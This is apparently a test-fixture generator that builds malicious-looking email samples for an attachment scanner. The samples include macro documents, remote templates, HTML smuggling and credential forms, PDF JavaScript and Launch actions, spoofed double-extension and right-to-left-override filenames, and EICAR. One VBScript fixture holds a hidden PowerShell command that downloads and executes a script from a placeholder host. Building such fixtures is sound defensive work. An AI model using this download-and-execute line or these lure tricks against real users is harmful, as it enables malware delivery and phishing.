  await eml('docm.eml', 'Timesheet', text, [{ filename: 'Timesheet.docm', content: await docx(true), contentType: 'application/vnd.ms-word.document.macroEnabled.12' }]);
  await eml('docm-named-docx.eml', 'Contract', text, [{ filename: 'Contract.docx', content: await docx(true), contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' }]);

  await eml('docx-remote-template.eml', 'Contract draft', text, [{ filename: 'Contract_draft.docx', content: await docx(false, 'https://templates.secure-docs.example.net/contract.dotm'), contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' }]);
  await eml('docx-local-template.eml', 'Minutes', text, [{ filename: 'Minutes.docx', content: await docx(false, 'file:///C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'), contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' }]);
  await eml('xls-xlm-macro.eml', 'Payment schedule', text, [{ filename: 'Payment_schedule.xls', content: ole([['/Workbook', biffWorkbook()]]), contentType: 'application/vnd.ms-excel' }]);

  // HTML and PDF.
  await eml('html-smuggling.eml', 'Secure document', text, [{ filename: 'Secure_Document.html', content: smugglingHtml, contentType: 'text/html' }]);
  await eml('html-credential-form.eml', 'Shared document', text, [{ filename: 'Shared_Document.htm', content: credentialHtml, contentType: 'text/html' }]);
  await eml('html-obfuscated.eml', 'Voicemail', text, [{ filename: 'Voicemail_0314.html', content: obfuscatedHtml, contentType: 'text/html' }]);
  await eml('pdf-javascript.eml', 'Invoice', text, [{ filename: 'Invoice.pdf', content: jsPdf(), contentType: 'application/pdf' }]);
  await eml('pdf-objstm-javascript.eml', 'Invoice', text, [{ filename: 'Invoice.pdf', content: objStmPdf(), contentType: 'application/pdf' }]);
  await eml('pdf-launch.eml', 'Invoice', text, [{ filename: 'Invoice.pdf', content: launchPdf(), contentType: 'application/pdf' }]);

  // A single-part message whose only body is an attachment: text/plain, but a .vbs file.
  const vbs = 'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr https://payload.example/a.ps1 | iex"\r\n';
  fs.writeFileSync(
    path.join(DIR, 'single-part-script.eml'),
    [
      'From: "Accounts Payable" <billing@supplier.example>',
      'To: alice@example.com',
      'Subject: Remittance',
      'Date: Fri, 14 Mar 2025 08:15:00 +0000',
      'Message-ID: <single-part-script@supplier.example>',
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=us-ascii',
      'Content-Disposition: attachment; filename="Remittance_advice.vbs"',
      '',
      vbs.repeat(4),
    ].join('\r\n'),
  );

  // Two names for one part (reliability Z-04): the disposition says .pdf, the Content-Type name says .exe, and a
  // second part hides a right-to-left override in an RFC 2231 encoded name.
  const b64 = (b: Buffer) => b.toString('base64').replace(/.{76}/g, '$&\r\n');
  fs.writeFileSync(
    path.join(DIR, 'names-disagree.eml'),
    [
      'From: "Accounts Payable" <billing@supplier.example>',
      'To: alice@example.com',
      'Subject: Invoice',
      'Date: Fri, 14 Mar 2025 08:15:00 +0000',
      'Message-ID: <names-disagree@supplier.example>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=us-ascii',
      '',
      'Invoice attached.',
      '--b1',
      'Content-Type: application/pdf; name="Invoice_0314.pdf.exe"',
      'Content-Disposition: attachment; filename="Invoice_0314.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      b64(cleanPdf()),
      '--b1',
      "Content-Type: application/pdf; name*=UTF-8''Statement%E2%80%AEfdp.scr",
      'Content-Disposition: attachment; filename="Statement.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      b64(cleanPdf()),
      '--b1--',
      '',
    ].join('\r\n'),
  );

  // EICAR: in a zip inside an attached message, and a prefixed near-miss that is not the test file.
  const innerMail = new MailComposer({
    from: 'scanner@supplier.example',
    to: 'billing@supplier.example',
    subject: 'test',
    text: 'test file attached',
    date: new Date('2025-03-13T08:00:00Z'),
    messageId: '<eicar-inner@supplier.example>',
    baseBoundary: 'eicarinner',
    attachments: [{ filename: 'eicar_com.zip', content: await zip([['eicar.com', Buffer.from(EICAR)]]), contentType: 'application/zip' }],
  } as ConstructorParameters<typeof MailComposer>[0]);
  await eml('eicar-zip-in-rfc822.eml', 'Fwd: test', text, [{ filename: 'forwarded.eml', content: await innerMail.compile().build(), contentType: 'message/rfc822' }]);
  await eml('eicar-prefixed.eml', 'Not a test file', text, [{ filename: 'notes.txt', content: `Note: ${EICAR}\n`, contentType: 'text/plain' }]);
}

await main();
